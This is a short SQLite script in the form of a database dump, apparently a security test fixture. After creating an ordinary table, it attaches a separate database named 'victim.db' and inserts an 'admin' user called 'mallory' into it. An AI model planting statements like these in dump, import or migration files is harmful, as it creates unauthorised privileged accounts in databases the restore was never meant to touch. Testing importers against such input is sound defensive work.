PRAGMA foreign_keys=OFF;
BEGIN TRANSACTION;
CREATE TABLE t(a);
INSERT INTO "t"(rowid,"a") VALUES(1,'kept');
ATTACH DATABASE 'victim.db' AS v;
INSERT INTO v.users VALUES('mallory','admin');
COMMIT;
